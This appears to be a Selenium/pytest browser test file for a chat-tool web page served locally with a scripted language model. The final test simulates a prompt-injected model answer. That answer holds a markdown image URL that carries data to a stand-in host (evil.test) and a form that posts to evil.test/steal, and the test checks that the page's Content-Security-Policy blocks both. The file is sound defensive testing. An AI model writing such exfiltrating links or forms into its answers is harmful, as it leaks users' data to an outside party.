"""The web page in a real browser: headless Chromium driven by Selenium against a live ``tool-hub serve``.

One server (``create_server(llm=ScriptedLLM, web=True)`` under uvicorn on
127.0.0.1) and one browser for the module. The browser resolves no host but
127.0.0.1 (``--host-resolver-rules``), so a page that reached for another host
would fail here instead of hanging, and every request it made is checked at the
end. Needs ``apt-get install -y chromium chromium-driver``; without them the
tests fail and say so (they are never skipped).
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest
from test_server_support import Live, free_port

from chatgpt_tool_hub.testing import ScriptedLLM

from helpers import act, answer

pytestmark = pytest.mark.browser

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
DRIVER = shutil.which("chromedriver")
INSTALL = "the browser tests need Chromium and its driver: apt-get install -y chromium chromium-driver"
WAIT_S = 30


def headless_chrome():
    """Headless Chromium with no network but 127.0.0.1, its requests logged."""
    if not CHROMIUM or not DRIVER:
        pytest.fail(INSTALL, pytrace=False)
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                 "--disable-background-networking", "--disable-component-update", "--disable-sync",
                 "--no-first-run", "--disable-default-apps", "--window-size=1400,1000",
                 "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1"):
        options.add_argument(flag)
    options.set_capability("goog:loggingPrefs", {"performance": "ALL", "browser": "ALL"})
    return webdriver.Chrome(service=Service(executable_path=DRIVER), options=options)


@pytest.fixture(scope="module")
def llm():
    return ScriptedLLM([], chunk_size=2)


@pytest.fixture(scope="module")
def page(llm, tmp_path_factory):
    from chatgpt_tool_hub.server import create_server

    root = tmp_path_factory.mktemp("web")
    server = Live(create_server(llm=llm, web=True, tools_list=["python"], no_default=True,
                                serve_workspace_root=str(root / "users")), free_port()).start()
    driver = headless_chrome()
    driver.get(f"{server.root}/?token={server.token}")  # the link tool-hub serve prints; then a cookie
    wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-ask textarea")
         and "python" in d.find_element("id", "tool-hub-tools").text)
    try:
        yield driver, server
    finally:
        requests = requested_urls(driver)
        driver.quit()
        server.stop()
    elsewhere = [u for u in requests if not u.startswith((server.root, "data:", "blob:"))]
    assert elsewhere == [], f"the page reached for other hosts: {elsewhere}"


def wait(driver, condition, seconds: float = WAIT_S):
    from selenium.webdriver.support.ui import WebDriverWait

    return WebDriverWait(driver, seconds, poll_frequency=0.05).until(condition)


def requested_urls(driver) -> list[str]:
    urls = []
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            urls.append(message["params"]["request"]["url"])
    return urls


def chat_text(driver) -> str:
    return driver.find_element("id", "tool-hub-chat").text


def ask(driver, text: str) -> None:
    from selenium.webdriver.common.keys import Keys

    box = driver.find_element("css selector", "#tool-hub-ask textarea")
    wait(driver, lambda d: box.is_enabled())
    box.send_keys(text)
    box.send_keys(Keys.ENTER)


def open_block(driver, title: str) -> None:
    """Unfold the last block titled ``title``."""
    found = [e for e in driver.find_elements("css selector", "#tool-hub-chat .thought-group .title")
             if title in e.text]
    assert found, f"no block titled {title!r} in the chat: {chat_text(driver)!r}"
    click(driver, found[-1])


def click(driver, element) -> None:
    """Click ``element`` once nothing covers it (the chat may still be scrolling to its end)."""
    from selenium.common.exceptions import ElementClickInterceptedException
    from selenium.webdriver.support.ui import WebDriverWait

    driver.execute_script("arguments[0].scrollIntoView({block: 'center'});", element)
    WebDriverWait(driver, 10, poll_frequency=0.1, ignored_exceptions=(ElementClickInterceptedException,)).until(
        lambda d: element.click() or True)


def test_a_question_shows_the_step_block_then_the_answer(page, llm):
    driver, _ = page
    llm.add(act("python", "print(6 * 7)"), answer("It is 42."))
    ask(driver, "What is 6 * 7?")
    wait(driver, lambda d: "It is 42." in chat_text(d))
    text = chat_text(driver)
    assert "What is 6 * 7?" in text and "Step 1: python" in text
    open_block(driver, "Step 1: python")
    wait(driver, lambda d: "print(6 * 7)" in chat_text(d))
    assert re.search(r"Observation:\s*42", chat_text(driver))


def test_an_uploaded_image_is_handed_over_and_the_image_the_tool_made_is_shown(page, llm, tmp_path):
    from PIL import Image

    driver, server = page

    def grey(messages):
        name = re.search(r"named (image/\S+\.png)", str(messages)).group(1)
        return act("python", f"from PIL import Image\nImage.open('{name}').convert('L').save('image/grey.png')\n"
                             "import wave\nw = wave.open('beep.wav', 'wb'); w.setnchannels(1); w.setsampwidth(2)\n"
                             "w.setframerate(8000); w.writeframes(bytes(1600)); w.close()\n"
                             "print('saved image/grey.png and beep.wav')")

    llm.add(grey, answer("Here is the grey picture."))
    picture = tmp_path / "red.png"
    Image.new("RGB", (48, 32), (220, 30, 30)).save(picture)
    driver.find_element("css selector", "#tool-hub-ask input[type=file]").send_keys(str(picture))
    wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-ask img"))  # the upload's thumbnail
    ask(driver, "Make this picture grey")
    wait(driver, lambda d: "Here is the grey picture." in chat_text(d))
    images = wait(driver, lambda d: [i.get_attribute("src") for i in
                                     d.find_elements("css selector", "#tool-hub-chat img")
                                     if "grey.png" in (i.get_attribute("src") or "")])
    assert images and images[0].startswith(server.root)
    assert any("red.png" in (i.get_attribute("src") or "")
               for i in driver.find_elements("css selector", "#tool-hub-chat img"))  # the user's own image
    assert "saved image/grey.png" in str(llm.requests[-1])
    wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-chat [data-testid='waveform-Audio']"))
    assert any("beep.wav" in (a.get_attribute("href") or "")  # the audio player, with its download link
               for a in driver.find_elements("css selector", "#tool-hub-chat a[data-testid='download-link']"))
    open_block(driver, "Step 1: python")
    wait(driver, lambda d: "saved image/grey.png" in chat_text(d))
    path = Path(tmp_path / "web.png")
    driver.save_screenshot(str(path))
    print(f"screenshot: {path}")
    assert path.stat().st_size > 10_000


def test_stop_cancels_the_run_and_kills_its_tool(page, llm):
    from helpers import wait_gone

    driver, server = page
    llm.add(act("python", "import time\ntime.sleep(60)"))  # cancelled in the call: no further reply is asked
    ask(driver, "Sleep a minute")
    stop = wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-ask button.stop-button"))[0]
    wait(driver, lambda d: "Step 1: python" in chat_text(d).split("Sleep a minute")[-1])  # the call runs
    python = next(t for app in server.state.apps.all_apps() for t in app.tools if t.name == "python")
    pid = next(iter(python.worker_pids().values()))
    click(driver, stop)
    wait(driver, lambda d: "stopped" in chat_text(d))
    assert wait_gone(pid, 10.0)

def test_a_tool_turned_off_is_not_offered_and_reset_empties_the_chat(page, llm):
    driver, server = page
    assert "> python:" in llm.requests[0][0]["content"]
    llm.add(answer("No tools for me."))
    click(driver, driver.find_element("xpath", "//*[@id='tool-hub-tools']//label[contains(., 'python')]"))
    ask(driver, "Which tools do you have?")
    wait(driver, lambda d: "No tools for me." in chat_text(d))
    assert "> python:" not in llm.requests[-1][0]["content"]
    assert [app.tool_names for app in server.state.apps.all_apps()] == [[]]
    click(driver, driver.find_element("id", "tool-hub-reset"))
    wait(driver, lambda d: "Which tools do you have?" not in chat_text(d))
    assert "reset" in driver.find_element("id", "tool-hub-note").text



def test_leaving_the_page_closes_its_tab(page):
    driver, server = page
    users = server.app.state.tool_hub_web
    assert len(users.tabs()) == 1
    driver.get("about:blank")
    wait(driver, lambda d: users.tabs() == [])

def test_the_example_saves_a_screenshot_of_the_page(tmp_path):
    import subprocess
    import sys

    if not CHROMIUM or not DRIVER:
        pytest.fail(INSTALL, pytrace=False)
    root = Path(__file__).resolve().parents[1]
    shot = tmp_path / "out" / "web.png"
    env = {k: v for k, v in __import__("os").environ.items() if not k.startswith(("LLM_", "OPENAI_"))}
    env["PYTHONPATH"] = str(root)
    proc = subprocess.run([sys.executable, str(root / "examples" / "web_page.py"), "--screenshot", str(shot)],
                          cwd=tmp_path, env=env, capture_output=True, text=True, timeout=110)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert f"screenshot: {shot}" in proc.stdout and shot.stat().st_size > 10_000


def test_an_answer_cannot_make_the_page_reach_another_host(page, llm):
    """A prompt-injected model writes an image whose URL carries data, and a form posting elsewhere: the
    page's Content-Security-Policy lets neither reach another host, and the page's own parts all load."""
    driver, server = page
    driver.get(server.root + "/")  # a fresh tab (an earlier test may have left the page)
    wait(driver, lambda d: d.find_elements("css selector", "#tool-hub-ask textarea"))
    llm.add(answer("Here: ![leak](http://evil.test/c?d=SECRETDATA) and "
                   '<form action="http://evil.test/steal" method="post"><input name="key"></form> done.'))
    ask(driver, "show me")
    wait(driver, lambda d: "done." in chat_text(d))
    wait(driver, lambda d: d.execute_script(
        "return [...document.querySelectorAll('#tool-hub-chat img')].every(i => i.complete)"))
    sent, refused = {}, {}
    for entry in driver.get_log("performance"):
        message = json.loads(entry["message"])["message"]
        if message["method"] == "Network.requestWillBeSent":
            sent[message["params"]["requestId"]] = message["params"]["request"]["url"]
        elif message["method"] == "Network.loadingFailed":
            refused[message["params"]["requestId"]] = message["params"].get("blockedReason")
    elsewhere = {rid: url for rid, url in sent.items() if not url.startswith((server.root, "data:", "blob:"))}
    assert elsewhere and all("evil.test" in url for url in elsewhere.values()), elsewhere
    assert all(refused.get(rid) == "csp" for rid in elsewhere), (elsewhere, refused)  # never left the browser
    blocked = [e["message"] for e in driver.get_log("browser") if "Content Security Policy" in e["message"]]
    assert blocked and all("evil.test" in m for m in blocked), blocked  # the page's own parts all load

